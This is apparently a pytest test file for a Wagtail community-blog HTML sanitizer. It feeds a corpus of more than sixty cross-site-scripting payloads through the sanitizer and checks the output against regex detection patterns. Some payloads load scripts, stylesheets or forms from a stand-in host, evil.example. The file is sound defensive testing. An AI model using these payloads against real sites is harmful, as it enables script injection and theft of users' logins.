"""Whatever a browser sends, only the editor's features survive: a corpus of hostile inputs."""

import re

import pytest

from tests.factories import make_blog, make_post
from wagtail_communityblog.sanitize import clean_html, clean_rendered_links

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    "<IMG SRC=javascript:alert('XSS')>",
    "<img src=\"jav&#x09;ascript:alert('XSS');\">",
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href=" javascript:alert(1)">click</a>',
    '<a href="jav&#x61;script:alert(1)">click</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">click</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:alert(1)">c</a>',
    '<a href="java\tscript:alert(1)">click</a>',
    '<a href="java\nscript:alert(1)">click</a>',
    '<a href="java&#0000010script:alert(1)">click</a>',
    '<a href="vbscript:msgbox(1)">click</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
    '<a href="DATA:text/html,<script>alert(1)</script>">click</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<a href="https://ok.example/" onclick="steal()">ok</a>',
    '<a href="https://ok.example/" onmouseover="steal()" style="position:fixed">ok</a>',
    '<p onmouseover="alert(1)">hover</p>',
    '<p style="background:url(javascript:alert(1))">styled</p>',
    '<p style="expression(alert(1))">ie</p>',
    "<style>body{display:none}</style><p>text</p>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<embed embedtype="image" id="1" format="fullwidth" alt="forged">',
    '<svg onload="alert(1)"><circle r="10"/></svg>',
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<form action="https://evil.example/"><input name="password"><button>Go</button></form>',
    '<input type="text" value="" autofocus onfocus="alert(1)">',
    '<textarea onfocus="alert(1)" autofocus>x</textarea>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<details open ontoggle="alert(1)"><summary>x</summary></details>',
    '<video><source onerror="alert(1)"></video>',
    '<audio src=x onerror="alert(1)"></audio>',
    '<body onload="alert(1)">',
    '<div onclick="alert(1)">div</div>',
    '<marquee onstart="alert(1)">x</marquee>',
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<p>unclosed <b>bold <i>italic <a href="javascript:x">link',
    "<<script>script>alert(1)<</script>/script>",
    '<a href="https://ok.example/"><script>alert(1)</script>text</a>',
    '<p id="x" class="evil" data-x="1" title="t">attrs</p>',
    '<a href="//evil.example/" target="_blank">protocol relative</a>',
    '<a href="https://ok.example/" rel="opener">rel</a>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<template><img src=x onerror="alert(1)"></template>',
    '<img src="https://tracker.example/pixel.gif">',
    "<h1 onclick=alert(1)>Heading</h1>",
    '<blockquote cite="javascript:alert(1)">quote</blockquote>',
    '<ol><li onclick="x">one</li></ol>',
]

FORBIDDEN = [
    re.compile(r"<\s*script", re.I),
    re.compile(r"\son\w+\s*=", re.I),
    re.compile(r"javascript\s*:", re.I),
    re.compile(r"vbscript\s*:", re.I),
    re.compile(r"data\s*:", re.I),
    re.compile(r"style\s*=", re.I),
    re.compile(
        r"<\s*(iframe|form|input|button|textarea|svg|math|object|style|link|meta|base)", re.I
    ),
    re.compile(r"<\s*(video|audio|details|marquee|body|table|template|noscript)", re.I),
    re.compile(r"srcdoc|formaction|xlink", re.I),
]

ALLOWED_TAGS = {"p", "br", "h2", "h3", "b", "i", "ol", "ul", "li", "blockquote", "a", "embed"}


def assert_harmless(html):
    for pattern in FORBIDDEN:
        assert not pattern.search(html), f"{pattern.pattern!r} survived in {html!r}"
    for tag in re.findall(r"<\s*([a-zA-Z0-9]+)", html):
        assert tag.lower() in ALLOWED_TAGS, f"<{tag}> survived in {html!r}"
    for link in re.findall(r"<a\b[^>]*>", html):
        assert 'rel="nofollow ugc"' in link, link
        href = re.search(r'href="([^"]*)"', link)
        assert href is None or href.group(1).startswith(("http://", "https://", "mailto:", "/"))
    for embed in re.findall(r"<embed\b[^>]*>", html):
        raise AssertionError(f"an image nobody uploaded became an embed: {embed}")


def test_the_corpus_is_large_enough():
    assert len(HOSTILE) >= 50


@pytest.mark.parametrize("html", HOSTILE)
def test_hostile_html_is_harmless_after_sanitising(html):
    assert_harmless(clean_html(html, allowed_image_ids=set()))


@pytest.mark.parametrize("html", HOSTILE)
def test_hostile_html_is_harmless_after_rendering(html):
    from wagtail.rich_text import expand_db_html

    assert_harmless(clean_rendered_links(expand_db_html(clean_html(html, allowed_image_ids=set()))))


def test_the_features_the_editor_offers_survive():
    html = (
        "<h2>Heading</h2><h3>Sub</h3><p><strong>bold</strong> <em>it</em> "
        '<a href="https://example.org/x">link</a></p><ol><li>one</li></ol>'
        "<ul><li>two</li></ul><blockquote>quote</blockquote>"
    )
    assert clean_html(html) == (
        "<h2>Heading</h2><h3>Sub</h3><p><b>bold</b> <i>it</i> "
        '<a href="https://example.org/x" rel="nofollow ugc">link</a></p><ol><li>one</li></ol>'
        "<ul><li>two</li></ul><blockquote>quote</blockquote>"
    )


def test_an_uploaded_image_becomes_a_wagtail_image_embed_outside_its_paragraph():
    html = '<p>Look <img src="/media/images/a.max-1200x1200.png#wagtail-image-7" alt="A"> here</p>'
    assert clean_html(html, allowed_image_ids={7}) == (
        '<p>Look  here</p><embed alt="A" embedtype="image" format="fullwidth" id="7"/>'
    )


def test_loose_text_is_wrapped_in_paragraphs_and_empty_blocks_go():
    assert clean_html("plain <b>text</b><p></p><h2> </h2>") == "<p>plain <b>text</b></p>"


@pytest.mark.django_db
def test_a_stored_post_renders_its_links_with_nofollow_ugc(client, community, blog):
    post = make_post(blog, body='<p><a href="https://example.org/">x</a></p>')
    assert 'rel="nofollow ugc"' in client.get(post.url).content.decode()


@pytest.mark.django_db
def test_hostile_html_stays_harmless_on_the_published_page(client, community):
    from tests.factories import make_user

    blog = make_blog(community, make_user())
    body = clean_html("".join(HOSTILE), allowed_image_ids=set())
    post = make_post(blog, body=body)
    content = client.get(post.url).content.decode()
    start = content.index('<div class="communityblog-body">') + len(
        '<div class="communityblog-body">'
    )
    article = content[start : content.index('<footer class="communityblog-post-footer">')]
    article = article[: article.rindex("</div>")]
    assert_harmless(article)
